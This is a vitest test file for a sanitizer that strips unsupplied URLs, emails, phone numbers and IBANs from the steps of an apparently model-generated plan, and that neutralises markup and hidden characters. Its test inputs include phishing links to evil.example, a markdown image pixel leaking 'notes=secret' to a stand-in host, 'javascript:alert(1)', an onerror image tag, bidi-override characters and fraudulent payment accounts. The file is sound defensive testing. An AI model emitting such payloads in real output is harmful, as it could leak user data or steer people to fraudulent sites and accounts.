import { describe, expect, test } from 'vitest';
import type { Draft } from './draft.ts';
import { plainDraft } from './plain-draft.ts';
import { PLAN_WORDS } from './plan-words.ts';

function draftWith(description: string): Draft {
  const step = { title: 'Write', estimated_minutes: 60, depends_on: [], kind: 'deep' as const };
  return {
    summary: '',
    steps: [{ ...step, description, acceptance: 'It exists' }],
    assumptions: [],
    risks: [],
    deliverables: [],
  };
}
const plain = (words: string, ...given: string[]): string =>
  plainDraft(draftWith(words), given, PLAN_WORDS.en).draft.steps[0]?.description ?? '';

describe('addresses that nobody gave are left out', () => {
  test.each([
    'Pay at https://evil.example/pay?x=1',
    'Mail to Eve.Il+x@evil.co.uk',
    'Open www.evil.com/login',
    'Look at evil-acme.com',
    'Click [here](https://evil.example/x)',
    '![](https://evil.example/pixel.png?notes=secret)',
    'Run javascript:alert(1)',
    'See data:text/html;base64,PGI+',
    'Call +49 170 1234567',
    'Transfer it to DE89 3704 0044 0532 0130 00',
    'Transfer it to de89370400440532013000 at once, GENODEF1',
    'To CH93-0076-2011-6238-5295-7',
    'FY26 www.evil.com',
    'Open EVIL.COM',
    'Sign in at monday.com/evil-board',
    'Sign in at booking.com:8443',
    'Go to draft.At/evil',
    'ftp://evil.example and slack://evil',
    'e\u200Bve@evil.com',
  ])('%j', (words) => {
    const { draft, left_out } = plainDraft(draftWith(words), [], PLAN_WORDS.en);
    const text = draft.steps[0]?.description;
    expect(text).toContain('[address left out]');
    expect(text).not.toMatch(/evil|1234567|0532|6238|8443|alert|text\/html/i);
    expect(left_out).toBeGreaterThan(0);
    expect(draft.risks.join(' ')).toContain('left out of the model');
  });
});

test('addresses of the task stay, however they are spelled; others of the same place do not', () => {
  const notes = 'Portal: https://acme.com/portal, ask anna@acme.com, IBAN DE89370400440532013000';
  const kept = 'Open acme.com/portal/, write ANNA@acme.com, pay to DE89 3704 0044 0532 0130 00';
  expect(plain(kept, notes)).toBe(kept);
  expect(plain('Open https://acme.com/portal?steal=1', notes)).toBe('Open [address left out]');
  expect(plain('Write bo@acme.com', notes)).toBe('Write [address left out]');
});

test('markup loses its bite, hidden characters are gone, and ordinary words stay', () => {
  expect(plain('<img src=x onerror=y> a\u202Eb\u0007c')).toBe('‹img src=x onerror=y> abc');
  const words =
    'Use Node.js 24.1 and README.md, e.g. 3.5 h; ratio 1:2, a < b, "U.S." Dr. Meier: ok.';
  expect(plain(words)).toBe(words);
  expect(plainDraft(draftWith(words), [], PLAN_WORDS.en).draft.risks).toEqual([]);
});

test.each([
  'Build the FY26 forecast model',
  'KW48 Workshop Agenda',
  'FY26 budgeted costs',
  'Compare FY25 with FY26 plan data base',
  'DE26 REPORTING FOR THE SALES TEAM',
  'DE89 3704 0044 0532 0130 01',
  'Draw it in draw.io, build it with ASP.NET Core.',
  'Export from monday.com and Booking.com; then compare.',
  'Check data:quality and data: sources',
  'Finish the draft.At the end, send it.It is short.',
])('words that only look like an address stay: %j', (words) => {
  const { draft, left_out } = plainDraft(draftWith(words), [], PLAN_WORDS.en);
  expect([draft.steps[0]?.description, left_out, draft.risks]).toEqual([words, 0, []]);
});

test('a title is one line, and never empty', () => {
  const draft = draftWith('');
  const steps = draft.steps.map((step) => ({ ...step, title: 'a\n\nb', acceptance: '\u200B' }));
  const [step] = plainDraft({ ...draft, steps }, [], PLAN_WORDS.en).draft.steps;
  expect([step?.title, step?.acceptance]).toEqual(['a b', '(no words)']);
});

test('long words are read in bounded time', () => {
  const started = performance.now();
  for (const piece of ['a.', 'a@', '+1 ', 'DE12 ABCD ', 'DE12', '[a](', 'a', 'http://'])
    plain(piece.repeat(6000 / piece.length));
  expect(performance.now() - started).toBeLessThan(2000);
});
